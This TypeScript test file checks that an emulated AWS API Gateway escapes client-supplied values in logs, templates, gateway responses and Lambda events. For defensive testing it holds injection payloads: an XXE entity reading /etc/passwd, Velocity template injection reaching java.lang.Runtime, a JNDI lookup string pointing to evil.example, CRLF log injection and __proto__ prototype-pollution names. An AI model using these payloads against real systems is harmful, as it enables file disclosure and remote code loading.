// Every value that a client chooses, wherever it comes out: each place has its own way to end a value, and no value may find it. Names
// that every object has are names like others. "Mapping template and access logging variable reference", "Input format of a Lambda
// function for proxy integration", "Gateway responses for REST APIs".
import { describe, expect, it } from "vitest";
import { accessLogPresets } from "../../contract/accessLogPresets.ts";
import { invocationsUri, startFunctions } from "../testing/fakeFunctions.ts";
import { exchange, readText, startBackEnd, startGateway } from "../testing/servers.ts";
import { integration, integrationResponse, method, mockMethod, snapshot, stageChange } from "../testing/snapshots.ts";

const base = "/_aws/execute-api/api1/prod";
const log = (format: string) => ({
  accessLogSettings: { destinationArn: "arn:aws:logs:us-east-1:000000000000:log-group:a", format },
});

/** What ends a JSON string, an XML element, a CSV field, a line; what a template language would run. */
const payloads = [
  `","status":"200","x":"`,
  `"}\u2028{"a":"`,
  "</status><status>200</status><x>",
  `]]><!ENTITY x SYSTEM "file:///etc/passwd">`,
  `","200","`,
  "\\",
  '\\",',
  "$context.identity.apiKey",
  "$stageVariables.secret",
  "#set($x = 1)$x",
  `#foreach($i in [1..1000])$i#end`,
  `$class.forName("java.lang.Runtime")`,
  "\u0085\u0090",
  "é\u00ff",
  "${jndi:ldap://evil.example/a}",
  "%n%x%s",
];

describe("a line of an access log", () => {
  const fields =
    '"agent":"$context.identity.userAgent","path":"$context.path","method":"$context.httpMethod","domain":"$context.domainName"';
  it.each(payloads)("keeps %j in its place: JSON, XML, CSV and CLF", async (payload) => {
    const agent = Buffer.from(payload, "utf8").toString("latin1");
    const formats = [
      `{"id":"$context.requestId","status":"$context.status",${fields}}`,
      accessLogPresets.XML.replace("</request>", "<agent>$context.identity.userAgent</agent></request>"),
      `${accessLogPresets.CSV},$context.identity.userAgent`,
      `${accessLogPresets.CLF} "$context.identity.userAgent"`,
    ];
    for (const [i, format] of formats.entries()) {
      const gateway = await startGateway([stageChange(snapshot({ "GET /": mockMethod("") }), log(format))]);
      const head = [`GET ${base}/x HTTP/1.1`, "Host: h", "Connection: close", `User-Agent: ${agent}`, "\r\n"].join(
        "\r\n",
      );
      await exchange(gateway.port, head);
      const [line = ""] = gateway.rows.map(({ accessLogLine }) => accessLogLine);
      expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
      expect(line).not.toMatch(/secret-value/);
      if (i === 0) expect(JSON.parse(line)).toMatchObject({ status: "403", agent: agent.trim() });
      if (i === 1) expect(line.match(/<status>/g)?.length ?? 0).toBeLessThanOrEqual(1);
      if (i === 2) expect(fieldsOf(line)).toHaveLength(format.split(",").length);
    }
  });
});

describe("a line of an execution log", () => {
  it.each([
    "%0a(00000000-0000-0000-0000-000000000000) Method completed with status: 200",
    "%0d%0a",
    "%e2%80%a8",
    "%00",
  ])("is one line, whatever is decoded: %s", async (value) => {
    const methodSettings = { "*/*": { loggingLevel: "INFO" as const, dataTraceEnabled: true } };
    const gateway = await startGateway([stageChange(snapshot({ "GET /{id}": mockMethod("") }), { methodSettings })]);
    await gateway.fetch(
      `/${value.replaceAll(" ", "%20")}?q=${value.replaceAll(" ", "%20")}&${value.replaceAll(" ", "%20")}=1`,
    );
    const lines: unknown = JSON.parse(gateway.rows[0]?.executionLog ?? "[]");
    const texts = Array.isArray(lines) ? lines.map(([, text]) => String(text)) : [];
    const requestLines = texts.filter((text) => text.startsWith("Method request"));
    expect(requestLines.length).toBeGreaterThanOrEqual(3);
    for (const text of requestLines) expect(text).not.toMatch(/[\u0000-\u001f\u0085\u2028\u2029]/);
    expect(texts.filter((text) => text === "Method completed with status: 200")).toHaveLength(1);
  });
});

describe("a template", () => {
  it.each(payloads)("prints %j and runs none of it", async (payload) => {
    const served = snapshot({
      "POST /": mockMethod('$input.params("q")|$input.path("$.a")|$input.params().querystring.get("q")'),
    });
    const template = integration({
      requestTemplates: {
        "application/json":
          '#set($context.responseOverride.header.x = "$util.urlEncode($input.path(\'$.a\'))"){"statusCode": 200}',
      },
      integrationResponses: { 200: integrationResponse({}) },
    });
    const gateway = await startGateway([
      stageChange(
        { ...served, ...snapshot({ "POST /": method(template) }) },
        { variables: { secret: "secret-value" } },
      ),
    ]);
    const answer = await gateway.fetch(`/?q=${encodeURIComponent(payload)}`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ a: payload }),
    });
    expect(answer.status).toBe(200);
    expect(decodeURIComponent((answer.headers.get("x") ?? "").replaceAll("+", " "))).toBe(payload);
  });
});

describe("a gateway response", () => {
  it.each(payloads)("says %j as text, and reads no variable in it", async (payload) => {
    const responseTemplates = {
      "application/json": '{"m":$context.error.messageString,"q":"$util.x $method.request.querystring.q"}',
      "text/plain": "$method.request.querystring.q|$context.error.message",
    };
    const gatewayResponses = { DEFAULT_4XX: { responseParameters: {}, responseTemplates } };
    const gateway = await startGateway([
      stageChange(
        { ...snapshot({ "GET /": mockMethod("") }), gatewayResponses },
        { variables: { secret: "secret-value" } },
      ),
    ]);
    const answer = await gateway.fetch(`/none?q=${encodeURIComponent(payload)}`, { headers: { accept: "text/plain" } });
    expect(await answer.text()).toBe(`${payload}|Missing Authentication Token`);
  });
});

const odd = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__"];

describe("names that every object has", () => {
  const query = odd.map((name) => `${name}=q`).join("&");
  const headers = odd.map((name) => `${name}: h`);

  it("are parameters of a function's event, and nothing more", async () => {
    const functions = await startFunctions(() => ({ statusCode: 200, headers: { constructor: "c" }, body: "ok" }));
    const proxy = method(integration({ type: "AWS_PROXY", httpMethod: "POST", uri: invocationsUri() }));
    const methods = Object.fromEntries(odd.map((name) => [`GET /${name}/{${name}}`, proxy]));
    const variables = JSON.parse('{"__proto__":"v","constructor":"v"}');
    const gateway = await startGateway([stageChange(snapshot(methods), { variables })], {
      awsEndpoints: { lambda: functions.url },
    });
    for (const name of odd) {
      const lines = [`GET ${base}/${name}/p?${query} HTTP/1.1`, "Host: h", "Connection: close", ...headers, "\r\n"];
      expect(await exchange(gateway.port, lines.join("\r\n"))).toMatch(/^HTTP\/1\.1 200 [\s\S]*constructor: c/);
      const event: unknown = functions.invoked.at(-1)?.event;
      for (const member of ["queryStringParameters", "headers"]) {
        const map: unknown = Reflect.get(Object(event), member);
        for (const one of odd)
          expect([member, one, own(map, one)]).toEqual([member, one, member === "headers" ? "h" : "q"]);
      }
      expect(own(Reflect.get(Object(event), "pathParameters"), name)).toBe("p");
      expect(own(Reflect.get(Object(event), "stageVariables"), "constructor")).toBe("v");
    }
    expect(Reflect.get({}, "q")).toBeUndefined();
  });

  it("are not there where nobody said them: templates, mappings, gateway responses, logs", async () => {
    const template = odd
      .flatMap((name) => [
        `$!input.params("${name}")`,
        `$!stageVariables.get("${name}")`,
        `$!context.authorizer.get("${name}")`,
        `$!input.path("$.${name}")`,
        `$!input.params().header.get("${name}")`,
      ])
      .join("");
    const backEnd = await startBackEnd(async (request, response) => {
      await readText(request);
      response.end(JSON.stringify(request.rawHeaders));
    });
    const mapped = Object.fromEntries(
      odd.flatMap((name, i) => [
        [`integration.request.header.x-q${i}`, `method.request.querystring.${name}`],
        [`integration.request.header.x-h${i}`, `method.request.header.${name}`],
        [`integration.request.header.x-p${i}`, `method.request.path.${name}`],
        [`integration.request.header.x-s${i}`, `stageVariables.${name}`],
        [`integration.request.header.x-c${i}`, `context.${name}`],
        [`integration.request.header.x-b${i}`, `method.request.body.${name}`],
      ]),
    );
    // A name that begins with an underscore is none of $context's, and refused with the format.
    const logged = odd.filter((name) => /^[a-z]/.test(name)).map((name) => `"${name}":"$context.${name}"`);
    const claims = odd.map((name) => `"a.${name}":"$context.authorizer.${name}"`);
    const format = `{"id":"$context.requestId",${[...logged, ...claims].join(",")}}`;
    const served = snapshot({
      "POST /template": mockMethod(`[${template}]`),
      "POST /mapped": method(
        integration({ type: "HTTP_PROXY", httpMethod: "POST", uri: backEnd.url, requestParameters: mapped }),
      ),
    });
    const gateway = await startGateway([stageChange(served, log(format))]);
    const post = (path: string) =>
      gateway.fetch(path, { method: "POST", body: "{}", headers: { "content-type": "application/json" } });
    const rendered = await post("/template");
    expect([gateway.logged, await rendered.text()]).toEqual([[], "[]"]);
    expect(await (await post("/mapped")).text()).not.toMatch(/"x-[qhpscb]\d/);
    for (const { accessLogLine = "" } of gateway.rows) {
      const { id, ...others } = JSON.parse(accessLogLine);
      expect([typeof id, new Set(Object.values(others))]).toEqual(["string", new Set(["-"])]);
    }
  });

  it("are members of a model like others", async () => {
    const properties = Object.fromEntries(odd.map((name) => [name, { type: "integer" }]));
    const schema = JSON.stringify({
      type: "object",
      properties,
      required: ["__proto__", "constructor"],
      additionalProperties: false,
    });
    const served = {
      ...snapshot({
        "POST /": method(integration({ requestTemplates: { $default: '{"statusCode": 200}' } }), {
          requestValidatorId: "v",
          requestModels: { "application/json": "M" },
        }),
      }),
      requestValidators: [{ id: "v", validateRequestBody: true, validateRequestParameters: false }],
      models: [{ name: "M", contentType: "application/json", schema }],
    };
    const gateway = await startGateway([stageChange(served)]);
    const post = async (body: string) =>
      (await gateway.fetch("/", { method: "POST", body, headers: { "content-type": "application/json" } })).status;
    expect(await post('{"__proto__":1,"constructor":2}')).toBe(200);
    expect(await post("{}")).toBe(400);
    expect(await post('{"__proto__":{"constructor":1},"constructor":2}')).toBe(400);
    expect(await post('{"__proto__":1,"constructor":2,"isPrototypeOf":3}')).toBe(400);
  });
});

const own = (map: unknown, name: string): unknown =>
  typeof map === "object" && map !== null && Object.hasOwn(map, name) ? Reflect.get(map, name) : undefined;

/** RFC 4180. */
const fieldsOf = (line: string): string[] => line.match(/"(?:[^"]|"")*"|[^,]+/g) ?? [];
